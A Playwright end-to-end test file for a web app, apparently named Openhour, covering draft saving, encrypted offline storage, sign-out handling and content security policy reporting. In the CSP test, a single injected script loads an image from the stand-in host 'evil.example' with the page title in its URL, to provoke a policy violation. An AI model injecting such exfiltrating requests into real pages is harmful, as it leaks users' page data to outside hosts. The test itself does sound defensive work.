import type { BrowserContext, Page } from '@playwright/test'
import { expect, freshAddress, newPassword, signInAs, signUp, test } from './support/people.ts'

const canary = 'Canary Person'
const back = 'We restored your unsaved draft.'

async function openAdd(page: Page) {
  await page.goto('/app/clients')
  await page.getByRole('button', { name: 'Add Client' }).first().click()
  const dialog = page.getByRole('dialog', { name: 'Add New Client' })
  await expect(dialog).toBeVisible()
  return dialog
}
const nameIn = (dialog: ReturnType<Page['getByRole']>) => dialog.getByLabel('Full name', { exact: true })
const signedOutDialog = (page: Page) => page.getByRole('alertdialog', { name: 'You’ve been signed out' })
const stored = (page: Page) =>
  page.evaluate(async () => {
    const databases = await indexedDB.databases()
    return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, databases])
  })

async function signInAgain(context: BrowserContext, email: string): Promise<Page> {
  await signInAs(context, email, newPassword)
  return context.newPage()
}

test('drafts survive a killed tab, another device and an expired sign-in', async ({ page, context, browser }) => {
  const email = freshAddress('drafts')
  await signUp(page, email)
  let dialog = await openAdd(page)
  await nameIn(dialog).fill(canary)
  await expect(dialog.getByText('Draft saved')).toBeVisible()
  await page.close()

  const second = await context.newPage()
  dialog = await openAdd(second)
  await expect(dialog.getByText(back)).toBeVisible()
  await expect(nameIn(dialog)).toHaveValue(canary)
  expect(await stored(second)).not.toContain(canary)

  // Leaving the page immediately: even the last keystrokes are saved.
  await dialog.getByLabel('Age', { exact: true }).fill('34')
  await second.goto('/help')

  const elsewhere = await browser.newContext({ baseURL: test.info().project.use.baseURL ?? '' })
  await signInAs(elsewhere, email, newPassword)
  const third = await elsewhere.newPage()
  dialog = await openAdd(third)
  await expect(nameIn(dialog)).toHaveValue(canary)
  await expect(dialog.getByLabel('Age', { exact: true })).toHaveValue('34')

  // The sign-in session ends on the server while the form is open.
  await nameIn(dialog).fill(`${canary} again`)
  await expect(dialog.getByText('Draft saved')).toBeVisible()
  await second.goto('/app/dashboard')
  await second
    .getByRole('button', { name: /account/i })
    .last()
    .click()
  await second.getByRole('menuitem', { name: /log ?out|sign ?out/i }).click()
  await second.waitForURL((url) => !url.pathname.startsWith('/app'))
  await expect(third).toHaveURL(/\/auth/, { timeout: 15_000 })
  await third.close()
  const fourth = await signInAgain(elsewhere, email)
  dialog = await openAdd(fourth)
  await expect(nameIn(dialog)).toHaveValue(`${canary} again`)
  await elsewhere.close()

  // Back shows none of the previous content.
  await second.goBack().catch(() => null)
  await expect(second.getByText('No clients yet')).toHaveCount(0)
  await expect(second).toHaveURL(/\/auth|\/$|\/help/)
})

test('text typed offline is stored encrypted in the browser, only for the same person', async ({ page, context }) => {
  const email = freshAddress('offline')
  await signUp(page, email)
  let dialog = await openAdd(page)
  await nameIn(dialog).fill('First')
  await expect(dialog.getByText('Draft saved')).toBeVisible()
  await context.setOffline(true)
  await nameIn(dialog).fill(canary)
  await expect(dialog.getByText('You are offline. Kept in this browser until you are back.')).toBeVisible()
  expect(await stored(page)).not.toContain(canary)

  await context.setOffline(false)
  await expect(dialog.getByText('Draft saved')).toBeVisible()
  await context.setOffline(true)
  await nameIn(dialog).fill(`${canary} II`)
  await expect(dialog.getByText(/You are offline/)).toBeVisible()
  await page.close()
  await context.setOffline(false)

  const again = await context.newPage()
  dialog = await openAdd(again)
  await expect(nameIn(dialog)).toHaveValue(`${canary} II`)
  await expect(dialog.getByText('Draft saved')).toBeVisible()
  await context.setOffline(true)
  await nameIn(dialog).fill(`${canary} III`)
  await expect(dialog.getByText(/You are offline/)).toBeVisible()
  await again.close()
  await context.setOffline(false)

  // Another person in the same browser, whose storage still contains the first one's entry.
  await context.clearCookies()
  const other = await context.newPage()
  await signUp(other, freshAddress('other'))
  expect(await stored(other)).toContain('openhour.entry')
  dialog = await openAdd(other)
  await expect(nameIn(dialog)).toHaveValue('')
  expect(await stored(other)).not.toContain(canary)
  await expect(dialog.getByText(back)).toHaveCount(0)
})

test('no page violates its content security policy, and violations are reported', async ({ page, context }) => {
  test.slow()
  const refused: string[] = []
  page.on('console', (message) => {
    if (/content security policy|permissions-policy|trusted ?type/i.test(message.text())) refused.push(message.text())
  })
  for (const path of ['/', '/help', '/auth', '/nothing-here']) {
    await page.goto(path)
    await page.waitForLoadState('networkidle')
  }
  await signInAs(context, 'premium@demo.test')
  for (const path of ['/app/dashboard', '/app/clients', '/app/subscription', '/app/settings']) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  expect(refused).toEqual([])
  await page.goto('/app/dashboard')
  // Tools don't record streamed request bodies, so capture it when it is sent.
  const received: { body: string; status: number }[] = []
  await page.exposeFunction('reportToTest', (body: string, status: number) => received.push({ body, status }))
  await page.evaluate(() => {
    const plain = window.fetch
    window.fetch = async (...given) => {
      const request = new Request(...given)
      const body = request.url.includes('securityLog') ? await request.clone().text() : ''
      const response = await plain(request)
      if (body.includes('csp:violation'))
        (window as unknown as { reportToTest: (body: string, status: number) => void }).reportToTest(
          body,
          response.status,
        )
      return response
    }
  })
  // The monitor starts when the page is idle, so violations before that go unreported.
  const breakOne = async () => {
    await page.evaluate(() => {
      const image = new Image()
      image.src = `https://evil.example/${document.title}${performance.now()}.png`
      document.body.append(image)
    })
    return received.length
  }
  await expect.poll(breakOne, { intervals: [1000], timeout: 45_000 }).toBeGreaterThan(0)
  expect(received[0]?.status).toBe(200)
  expect(received[0]?.body).not.toMatch(/evil|Openhour/)
})

test('signed out elsewhere while typing: the last text is kept for the same person only', async ({
  page,
  context,
  browser,
}) => {
  const email = freshAddress('left')
  await signUp(page, email)
  let dialog = await openAdd(page)
  await nameIn(dialog).fill('Saved before')
  await expect(dialog.getByText('Draft saved')).toBeVisible()
  // The last keystrokes never reach the server.
  await page.route('**/rpc/drafts/save*', () => undefined)
  await nameIn(dialog).fill(canary)
  const baseURL = test.info().project.use.baseURL ?? ''
  const elsewhere = await browser.newContext({ baseURL })
  await signInAs(elsewhere, email, newPassword)
  await elsewhere.request.post('/api/auth/sign-out', { headers: { origin: baseURL }, data: {} })
  await elsewhere.close()
  await signedOutDialog(page).getByRole('button', { name: 'Sign in' }).click()
  await expect(page).toHaveURL(/\/auth/)
  await expect(page.getByText(/Your unsaved text stays here, encrypted, for an hour/)).toBeVisible()
  expect(await stored(page)).not.toContain(canary)
  await page.close()

  // Another person gets none of it.
  await signInAs(context, 'premium@demo.test')
  const other = await context.newPage()
  dialog = await openAdd(other)
  await expect(nameIn(dialog)).not.toHaveValue(canary)
  await other.close()
  await context.clearCookies()

  const again = await signInAgain(context, email)
  dialog = await openAdd(again)
  await expect(dialog.getByText(back)).toBeVisible()
  await expect(nameIn(dialog)).toHaveValue(canary)
  await expect(dialog.getByText('Draft saved')).toBeVisible()
  expect(await stored(again)).not.toContain('openhour.left')
})

for (const noticed of ['while typing', 'on sending'])
  test(`sign-in session and cookies end together, noticed ${noticed}: the text is kept, and Sign in is offered`, async ({
    page,
    context,
  }) => {
    const email = freshAddress('ended')
    await signUp(page, email)
    const dialog = await openAdd(page)
    await nameIn(dialog).fill('Saved before')
    await expect(dialog.getByText('Draft saved')).toBeVisible()
    await context.clearCookies()
    if (noticed === 'on sending') {
      // The last keystrokes never reach the server.
      await page.route('**/rpc/drafts/save*', () => undefined)
      await dialog.getByLabel('Age', { exact: true }).fill('34')
      await dialog.getByLabel('Gender', { exact: true }).fill('Woman')
      await dialog.getByLabel('Email', { exact: true }).fill(freshAddress('client'))
    }
    await nameIn(dialog).fill(canary)
    if (noticed === 'on sending') await dialog.getByRole('button', { name: 'Add Client' }).click()
    const ended = signedOutDialog(page)
    await expect(ended).toBeVisible()
    await expect.poll(() => stored(page)).toContain('openhour.left')
    expect(await stored(page)).not.toContain(canary)
    await ended.getByRole('button', { name: 'Sign in' }).click()
    await expect(page).toHaveURL(/\/auth\?reason=ended&next=%2Fapp%2Fclients/)
    await expect(page.getByText(/Your unsaved text stays here, encrypted, for an hour/)).toBeVisible()
    await page.getByLabel('Email', { exact: true }).fill(email)
    await page.getByLabel('Password', { exact: true }).fill(newPassword)
    await page.getByRole('button', { name: 'Sign In', exact: true }).last().click()
    await expect(page).toHaveURL(/\/app\/clients/)
    await page.getByRole('button', { name: 'Add Client' }).first().click()
    await expect(dialog.getByText(back)).toBeVisible()
    await expect(nameIn(dialog)).toHaveValue(canary)
    expect(await stored(page)).not.toContain('openhour.left')
  })
